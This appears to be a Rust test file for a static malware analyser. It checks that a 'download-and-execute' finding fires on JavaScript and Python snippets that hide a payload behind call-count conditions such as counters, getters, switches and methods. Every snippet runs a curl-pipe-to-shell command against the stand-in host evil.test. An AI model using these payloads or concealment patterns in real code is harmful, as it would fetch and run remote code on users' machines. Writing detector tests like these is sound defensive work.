//! Code that hides what it does behind a condition that only a second call makes true.

use ringfence_analysis::{Limits, Policy, Question, SourceFile, Tree, assess, facts};

fn fetches_and_runs(path: &str, text: &str) -> bool {
    let bytes = text.as_bytes().to_vec().into();
    let tree = Tree::new(vec![SourceFile { path: path.to_owned(), bytes }]);
    let facts = facts(&tree, &Limits::default());
    let policy = Policy::default();
    let question = Question { subject: "a", declared: None, policy: &policy, today: None };
    let report = assess(&tree, &facts, &question);
    report.findings.iter().any(|finding| finding.code == "download-and-execute")
}

#[test]
fn what_a_function_changes_it_changes_each_time_in_javascript() {
    let payload = "require('child_process').exec('curl https://evil.test/x | sh')";
    for (what, text) in [
        (
            "a variable",
            format!("let n = 0; function t() {{ n += 1 }} t(); t(); t(); if (n > 2) {payload}"),
        ),
        (
            "a member",
            format!(
                "const s = {{ n: 0 }}; const t = () => {{ s.n++ }}; t(); t(); t(); s.n > 2 && {payload}"
            ),
        ),
        (
            "a list",
            format!(
                "const l = []; const t = () => l.push(1); t(); t(); t(); if (l.length === 3) {payload}"
            ),
        ),
        (
            "within a function",
            format!(
                "(function () {{ let n = 0; const t = () => {{ n += 1 }}; t(); t(); t(); if (n > 2) {payload} }})()"
            ),
        ),
        (
            "by another function",
            format!(
                "let n = 0; function t() {{ n += 1 }} function u() {{ t() }} u(); u(); u(); if (n > 2) {payload}"
            ),
        ),
        (
            "two functions deep",
            format!(
                "function o() {{ return i() }} function i() {{ let n = 0; const t = () => {{ n += 1 }}; t(); t(); t(); if (n > 2) {payload} }} o()"
            ),
        ),
        (
            "by leaving early",
            format!(
                "let n = 0; function t() {{ n += 1 }} t(); t(); t(); if (n < 3) return; {payload}"
            ),
        ),
        (
            "by a switch",
            format!(
                "let n = 0; function t() {{ n += 1 }} t(); t(); t(); switch (n) {{ case 3: {payload} }}"
            ),
        ),
        (
            "by a getter",
            format!(
                "let n = 0; const o = {{ get t() {{ return ++n }} }}; o.t; o.t; o.t; if (n > 2) {payload}"
            ),
        ),
        (
            "by a method",
            format!(
                "class A {{ n = 0; t() {{ this.n++ }} }} const a = new A(); a.t(); a.t(); a.t(); if (a.n > 2) {payload}"
            ),
        ),
    ] {
        assert!(fetches_and_runs("a.js", &text), "{what}");
    }
}

#[test]
fn what_a_function_changes_it_changes_each_time_in_python() {
    let payload = "__import__('os').system('curl https://evil.test/x | sh')";
    for (what, text) in [
        (
            "a variable",
            format!(
                "n = 0\ndef t():\n    global n\n    n += 1\nt(); t(); t()\nif n > 2:\n    {payload}\n"
            ),
        ),
        (
            "a member",
            format!(
                "s = {{'n': 0}}\ndef t():\n    s['n'] += 1\nt(); t(); t()\nif s['n'] > 2:\n    {payload}\n"
            ),
        ),
        (
            "a list",
            format!(
                "l = []\ndef t():\n    l.append(1)\nt(); t(); t()\nif len(l) == 3:\n    {payload}\n"
            ),
        ),
        (
            "within a function",
            format!(
                "def f():\n    n = 0\n    def t():\n        nonlocal n\n        n += 1\n    t(); t(); t()\n    if n > 2:\n        {payload}\nf()\n"
            ),
        ),
        (
            "by another function",
            format!(
                "n = 0\ndef t():\n    global n\n    n += 1\ndef u():\n    t()\nu(); u(); u()\nif n > 2:\n    {payload}\n"
            ),
        ),
        (
            "by leaving early",
            format!(
                "import sys\nn = 0\ndef t():\n    global n\n    n += 1\nt(); t(); t()\nif n < 3:\n    sys.exit()\n{payload}\n"
            ),
        ),
        (
            "by a method",
            format!(
                "class A:\n    n = 0\n    def t(self):\n        self.n += 1\na = A()\na.t(); a.t(); a.t()\nif a.n > 2:\n    {payload}\n"
            ),
        ),
    ] {
        assert!(fetches_and_runs("a.py", &text), "{what}");
    }
}
